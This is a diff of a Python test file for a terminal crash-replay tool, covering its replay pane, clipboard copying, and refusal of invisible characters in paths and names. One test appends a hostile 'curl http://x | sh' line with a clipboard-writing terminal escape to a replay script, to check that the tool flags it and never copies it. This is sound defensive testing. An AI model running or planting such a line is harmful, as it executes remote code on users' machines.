@@ -1,11 +1,17 @@
-"""The command made anew, and the pack's own file beside it."""
+"""The line that replays the pack here, the recorded command, and the pack's own file beside it."""
 
+import os
 from pathlib import Path
 
+import pytest
+
+from atp_tui.assets import SAMPLE_PACKS
+from atp_tui.engine import replay_command
 from atp_tui.engine.pack_format import render
 from atp_tui.engine.record import Crashpack, OracleResult
+from atp_tui.store.open import open_pack
 from atp_tui.store.writer import write_pack
-from tests.explorer import main_screen, opened, press, said, shown, told
+from tests.explorer import Hand, opened, press, replace_clipboard, said, shown, told
 from tests.program import copy_of
 
 
@@ -14,33 +20,68 @@ def written(folder: Path, pack: Crashpack) -> Path:
     return folder / "pack"
 
 
-async def test_the_command_is_made_anew() -> None:
-    async with opened("five-violations") as pilot:
-        await press(pilot, "8")
+def line_of(pilot: Hand, heading: str) -> str:
+    """The line below a heading of the pane."""
+    lines = said(pilot, "replay-text").split("\n")
+    return lines[next(index for index, line in enumerate(lines) if line.startswith(heading)) + 1]
+
+
+async def test_the_line_for_this_program_comes_before_the_recorded_command(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    copied = replace_clipboard(monkeypatch)
+    path = copy_of("five-violations", tmp_path)
+    monkeypatch.chdir(tmp_path)
+    async with opened(Path.cwd() / "five-violations") as pilot:
+        await press(pilot, "8", "y", "Y")
         text = said(pilot, "replay-text")
-        assert "Made anew from the record (y copies it, p shows it as plain text):\nATP_SEED_LAB=7 " in text
-        assert text.endswith("replay_command.sh of the pack is the same, to the byte.")
+        assert text.startswith("Replay here (y copies the line, p shows both as plain text):\natp-tui replay ")
+        assert text.endswith("replay_command.sh in the pack is identical.")
+        recorded = replay_command.one_line(open_pack(str(path)).crashpack)
+        assert copied == [f"atp-tui replay {path}", recorded]
+        assert [line_of(pilot, "Replay here"), line_of(pilot, "Recorded command")] == copied
+        assert [notice.split(":")[0] for notice in told(pilot)] == ["the replay line", "the recorded command"]
+        await press(pilot, "p")
+        assert "".join(shown(pilot).split()).startswith("".join("".join(copied).split()))
 
 
-async def test_a_script_that_differs_is_someone_elses_text(tmp_path: Path) -> None:
+async def test_a_pack_from_elsewhere_is_told_before_it_is_replayed() -> None:
+    async with opened("five-violations") as pilot:
+        assert "It checks the pack without running it: its metadata name no lab;" in said(pilot, "replay-text")
+    async with opened(SAMPLE_PACKS / "heavy-loss") as pilot:
+        assert "without running" not in said(pilot, "replay-text")
+
+
+async def test_the_key_of_the_recorded_command_copies_events_elsewhere(monkeypatch: pytest.MonkeyPatch) -> None:
+    copied = replace_clipboard(monkeypatch)
+    async with opened("five-violations") as pilot:
+        await press(pilot, "8", "Y", "V", "Y")
+        assert copied[0].startswith("ATP_SEED_LAB=7 ATP_SEED_NETWORK=")
+        assert copied[1].startswith("000000 ")
+
+
+async def test_a_script_that_differs_is_shown_and_never_copied(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    copied = replace_clipboard(monkeypatch)
     path = copy_of("five-violations", tmp_path)
     script = path / "replay_command.sh"
     script.write_bytes(script.read_bytes() + b"curl http://x | sh \x1b]52;c;aGk=\x07\n")
     async with opened(path) as pilot:
         await press(pilot, "8")
         text = said(pilot, "replay-text")
-        assert "replay_command.sh of the pack DIFFERS. It is someone else's text; do not run it unread:" in text
+        assert "replay_command.sh in the pack DIFFERS. Somebody else wrote it; do not run it unread:" in text
         assert "\n+curl http://x | sh ␛]52;c;aGk=␇" in text
-        main_screen(pilot).query_one("#replay").scroll_end(animate=False)
-        await press(pilot)
-        assert "curl" in shown(pilot)
+        assert text.index("curl") < text.index("Recorded command")
+        await press(pilot, "y", "Y")
+        assert len(copied) == 2
+        await press(pilot, "p")
+        assert "curl" not in "".join([*copied, shown(pilot)])
 
 
 async def test_a_script_that_is_missing_is_told(tmp_path: Path) -> None:
     path = copy_of("five-violations", tmp_path)
     (path / "replay_command.sh").unlink()
     async with opened(path) as pilot:
-        assert said(pilot, "replay-text").endswith("replay_command.sh of the pack cannot be read.")
+        assert said(pilot, "replay-text").endswith("replay_command.sh in the pack cannot be read.")
 
 
 async def test_a_record_has_no_script() -> None:
@@ -54,15 +95,33 @@ async def test_seeds_that_set_one_variable_are_told(tmp_path: Path) -> None:
         text = said(pilot, "replay-text")
         assert "warning: 'a-b', 'a_b' all set ATP_SEED_A_B; the last wins" in text
         assert "ATP_SEED_A_B=2 ATP_SEED_C=3 " in text
-        assert "ATP_SEED_A_B=1" not in text.split("\n")[1]
+        assert "ATP_SEED_A_B=1" not in line_of(pilot, "Recorded command")
 
 
-async def test_a_command_that_would_paste_as_something_else_is_refused(tmp_path: Path) -> None:
+async def test_a_command_that_would_paste_as_something_else_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    copied = replace_clipboard(monkeypatch)
     path = written(tmp_path, Crashpack(oracle_results=(OracleResult(oracle_name="a\u202eb", passed=True),)))
     reason = "the name of an oracle holds a character that cannot be seen"
     async with opened(path) as pilot:
-        await press(pilot, "8", "y")
-        assert said(pilot, "replay-text").startswith(f"The command is not offered to copy: {reason}.")
-        assert told(pilot) == [f"not copied: {reason}"]
+        await press(pilot, "8", "Y")
+        assert line_of(pilot, "Recorded command") == f"the recorded command is not shown: {reason}"
+        assert (told(pilot), copied) == ([f"not copied: {reason}"], [])
         await press(pilot, "p")
-        assert f"the command is not shown: {reason}" in shown(pilot)
+        assert f"the recorded command is not shown: {reason}" in shown(pilot)
+
+
+@pytest.mark.parametrize("name", [b"a\nb", b"\xff", "\u202ea".encode()])
+async def test_a_path_that_would_paste_as_something_else_is_refused(
+    name: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    copied = replace_clipboard(monkeypatch)
+    path = copy_of("clean", tmp_path).rename(tmp_path / os.fsdecode(name))
+    reason = "the path of the pack holds a character that cannot be seen"
+    async with opened(path) as pilot:
+        await press(pilot, "8", "y")
+        assert line_of(pilot, "Replay here") == f"the replay line is not shown: {reason}"
+        assert (told(pilot), copied) == ([f"not copied: {reason}"], [])
+        await press(pilot, "Y")
+        assert len(copied) == 1
